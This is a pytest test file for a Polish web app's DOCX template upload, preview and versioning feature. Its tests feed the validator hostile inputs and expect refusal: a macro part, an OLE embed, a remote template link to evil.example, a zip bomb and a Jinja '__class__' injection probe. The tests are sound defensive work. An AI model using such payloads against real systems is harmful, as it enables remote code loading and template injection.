import io
import re
import zipfile
from collections.abc import Callable
from typing import Any

import pypdfium2
import pytest

from mikroserwis.edge import Parts
from tests.exports.form_cast import form, with_part
from tests.support.app import sqlite_only
from tests.support.cast import SAM
from tests.support.people import Web
from tests.support.records import a_form
from tests.support.way import Way

OWN = form("Umowa własna nr {{ ticket.number }} dla {{ company.name|upper }}")
MACRO = (
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override ContentType="%s"/></Types>'
)


@pytest.fixture
def desk(web: Callable[[str], Web]) -> Web:
    return web("admin")


def upload(desk: Web, content: bytes, paper: str = "contract", name: str = "wzor.docx", **fields: str) -> Any:
    return desk.post(f"/paper-forms/{paper}", {"file": (io.BytesIO(content), name), **fields})


def text_of(answer: Any) -> str:
    with pypdfium2.PdfDocument(answer.data) as document:
        said = " ".join(page.get_textpage().get_text_range() for page in document)
    return said.replace("\u00a0", " ").replace("\u200b", "")


def force(desk: Web, number: int, instead_of: int, paper: str = "contract") -> Any:
    return desk.post(f"/paper-forms/{paper}/{number}/in-force", {"instead_of": str(instead_of)})


def test_staff_replace_the_form_of_a_contract_and_go_back(desk: Web, way: Way):
    way.taken(SAM)
    way.confirmed(SAM)
    sent = upload(desk, OWN, remark="Z naszą czołówką")
    assert (sent.status_code, sent.location) == (303, "/paper-forms/contract/1")
    shipped = text_of(desk.get(f"/tickets/{SAM}/documents/contract.pdf"))
    assert "Umowa własna" not in shipped

    assert force(desk, 1, 0).status_code == 303
    page = desk.get("/paper-forms/contract").text
    assert "Z naszą czołówką" in page
    assert "Wprowadzono wersję 1" in page
    assert "Umowa własna nr 115 dla PPHU SAM" in text_of(desk.get(f"/tickets/{SAM}/documents/contract.pdf"))
    with zipfile.ZipFile(io.BytesIO(desk.get(f"/tickets/{SAM}/documents/papers.zip").data)) as archive:
        assert len(archive.namelist()) == 4
        assert b"Umowa w\xc5\x82asna" in zipfile.ZipFile(io.BytesIO(archive.read("115-umowa.docx"))).read(
            "word/document.xml"
        )

    assert desk.post("/paper-forms/contract/shipped", {"instead_of": "1"}).status_code == 303
    assert text_of(desk.get(f"/tickets/{SAM}/documents/contract.pdf")) == shipped
    assert "Przywrócono wzór wbudowany" in desk.get("/paper-forms/contract").text


@sqlite_only
def test_what_is_unknown_missing_or_forbidden_is_named_in_polish_and_nothing_is_kept(desk: Web):
    answer = upload(desk, form("{{ company.nazwa }}", "{{ ''.__class__ }}", needed=("{{ points }}",)), remark="Opis")
    assert answer.status_code == 422
    assert "Nie ma pola „company.nazwa”. Czy chodziło o „company.name”?" in answer.text
    assert "„{{ &#39;&#39;.__class__ }}” jest niedozwolone" in answer.text
    assert 'value="Opis"' in answer.text
    missing = upload(desk, form(needed=("{{ parties }}", "{{ points }}"))).text
    assert "Brakuje wymaganego pola {{ signatures }}" in missing
    assert "Nie dodano jeszcze żadnego wzoru" in missing


@sqlite_only
@pytest.mark.parametrize(
    ("content", "said"),
    [
        (with_part(OWN, "word/vbaProject.bin", b"x"), "bez makr"),
        (with_part(OWN, "word/embeddings/oleObject1.bin", b"x"), "bez makr"),
        (
            with_part(
                OWN,
                "word/_rels/settings.xml.rels",
                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
                b'Id="r" Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
                b"</Relationships>",
            ),
            "bez makr",
        ),
        (with_part(OWN, "word/media/big.bin", b"\0" * 120_000_000), "Po rozpakowaniu"),
        (b"%PDF-1.7 not a form", "nie jest tym, co mówi jego nazwa"),
        (b"PK\x03\x04rubbish", "nie można odczytać jako dokumentu Worda"),
        (b"", "plik"),
    ],
    ids=["macro", "ole", "remote template", "bomb", "pdf", "rubbish", "empty"],
)
def test_a_file_that_could_harm_is_refused_with_the_reason(desk: Web, content: bytes, said: str):
    answer = upload(desk, content)
    assert answer.status_code == 422
    assert said in answer.text.lower() if said == "plik" else said in answer.text


@sqlite_only
def test_a_file_is_limited_to_five_megabytes(desk: Web, parts: Parts):
    answer = upload(desk, b"x" * 2_500_000)
    assert answer.status_code in {413, 422}
    assert desk.post("/paper-forms/contract", {}).status_code == 422


@sqlite_only
def test_a_version_is_tried_on_a_real_ticket_before_it_is_in_force(desk: Web, parts: Parts):
    a_form(parts, content=OWN)
    page = desk.get(f"/paper-forms/contract/1?ticket={SAM}").text
    address = re.search(r'iframe src="([^"]+)"', page)
    assert address
    made = desk.get(address[1].replace("&amp;", "&"))
    assert "PODGLĄD – nie podpisywać" in text_of(made)
    assert "Umowa własna nr 115" in text_of(made)
    assert desk.get(f"/paper-forms/contract/1/trial.docx?ticket={SAM}").data.startswith(b"PK")
    assert desk.get(f"/paper-forms/quote/0/trial.pdf?ticket={SAM}").status_code == 200
    assert "Nie ma zgłoszenia o tym numerze" in desk.get("/paper-forms/contract/1?ticket=99999").text
    assert "Nie ma zgłoszenia o tym numerze" in desk.get("/paper-forms/contract/1?ticket=abc").text
    assert desk.get("/paper-forms/contract/2").status_code == 404


FAILING = form("Suma: {% if company.name > 4 %}x{% endif %}")


@sqlite_only
def test_a_form_that_fails_on_a_ticket_is_named_with_version_and_place_and_nothing_is_half_made(
    desk: Web, parts: Parts, way: Way
):
    way.taken(SAM)
    way.confirmed(SAM)
    a_form(parts, content=FAILING, in_force=True)
    for name in ("contract.pdf", "contract.docx", "papers.zip"):
        answer = desk.get(f"/tickets/{SAM}/documents/{name}")
        assert answer.status_code == 409
        assert "Umowa: wersji 1 wzoru nie da się wypełnić" in answer.text
        assert "Akapit „Suma:" in answer.text
        assert "Wzory dokumentów" in answer.text
    assert desk.get(f"/tickets/{SAM}/documents/power-of-attorney.pdf").status_code == 200
    assert "Akapit „Suma:" in desk.get(f"/paper-forms/contract/1?ticket={SAM}").text
    assert desk.get(f"/paper-forms/contract/1/trial.pdf?ticket={SAM}").status_code == 409


@sqlite_only
def test_who_decides_on_a_page_that_is_stale_is_told(desk: Web, parts: Parts):
    for content in (OWN, form("Druga"), form("Trzecia")):
        a_form(parts, content=content)
    assert force(desk, 1, 0).status_code == 303
    late = force(desk, 2, 0)
    assert late.status_code == 409
    assert "Ktoś" in late.text
    assert desk.post("/paper-forms/contract/2/in-force", {}).status_code == 409
    assert desk.post("/paper-forms/contract/shipped", {"instead_of": "3"}).status_code == 409
    assert force(desk, 1, 0).status_code == 303  # done already
    assert force(desk, 3, 1).status_code == 303
    assert force(desk, 2, 3).status_code == 303


@sqlite_only
def test_the_same_file_twice_is_one_version_and_a_form_no_longer_sound_is_not_put_in_force(desk: Web, parts: Parts):
    assert upload(desk, OWN).location.endswith("/1")
    assert upload(desk, OWN).location.endswith("/1")
    assert "To jest już wersja 1" in desk.get("/paper-forms/contract").text
    a_form(parts, content=form("{{ gone }}"))
    answer = force(desk, 2, 0)
    assert answer.status_code == 422
    assert "Nie ma pola „gone”" in answer.text


@sqlite_only
def test_what_is_printed_otherwise_than_in_word_is_told_after_the_upload(desk: Web):
    content = form("Wiersz\tz tabulatorem")
    assert upload(desk, content).status_code == 303
    assert "Tabulatory zostaną wydrukowane" in desk.get("/paper-forms").text


@sqlite_only
def test_the_page_names_every_placeholder_and_gives_the_shipped_form(desk: Web):
    page = desk.get("/paper-forms/quote").text
    for written in ("{{ lines }}", "{{ quote.gross }}", "{% if annex %}", "{{ item.unit_net }}"):
        assert written in page
    assert desk.get("/paper-forms").text.count("wzór wbudowany") == 3
    for paper in ("quote", "contract", "power_of_attorney"):
        assert desk.get(f"/paper-forms/{paper}/shipped").data.startswith(b"PK")
    assert desk.get("/paper-forms/invoice").status_code == 404
